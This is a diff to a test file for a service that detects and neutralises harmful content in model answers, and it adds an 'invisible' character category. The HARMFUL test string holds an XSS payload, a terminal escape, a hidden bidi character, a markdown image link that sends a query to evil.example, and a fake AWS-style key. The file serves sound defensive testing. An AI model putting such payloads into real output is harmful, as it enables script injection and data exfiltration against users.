@@ -9,7 +9,7 @@ from tests.support.model_server import ModelServer
 from tests.support.service import OTHER_API_KEY, Service
 from tests.support.traffic import ROOT, body, events, metric, new_text, post, said, streamed
 
-HARMFUL = "Late.\x1b[2J <img src=x onerror=alert(1)> ![x](https://evil.example/?q=tea) AKIAQ3ZT7MNB2XKWPLDV"
+HARMFUL = "Late.\x1b[2J <im\u202ag src=x onerror=alert(1)> ![x](https://evil.example/?q=tea) AKIAQ3ZT7MNB2XKWPLDV"
 HARMLESS = "Late.\u241b[2J &lt;img src=x onerror=alert(1)> ![x](hxxps://evil.example/?q=tea) (secret)"
 MAIL, PHONE = "canary-mail@example.org", "+44 20 7946 0958"
 
@@ -35,7 +35,7 @@ def test_a_harmful_answer_is_made_harmless_as_a_whole_and_inside_a_type(service:
 
 def inspected(service: Service) -> dict[tuple[str, str], float]:
     """How often inspection has found what, by verdict and kind."""
-    found = (("mended", kind) for kind in ("address", "script", "markup", "control", "secret"))
+    found = (("mended", kind) for kind in ("address", "script", "markup", "control", "invisible", "secret"))
     whole = (*found, ("refused", "secret"), ("refused", "instructions"))
     return {
         (verdict, kind): metric(service, "inspected_answers_total", verdict=verdict, kind=kind)
@@ -54,7 +54,7 @@ def test_an_operator_sees_once_what_an_answer_held_and_not_the_answer(
     model.behave(text=HARMFUL)
     before, log = inspected(service), service.output()
     post(service, body("qa"), path)
-    kinds = {"address", "markup", "control", "secret"}
+    kinds = {"address", "markup", "control", "invisible", "secret"}
     assert news(before, inspected(service)) == {("mended", kind): 1 for kind in kinds}
     logged = service.output().removeprefix(log)
     assert logged.count("inspected: mended for address in ") == 1
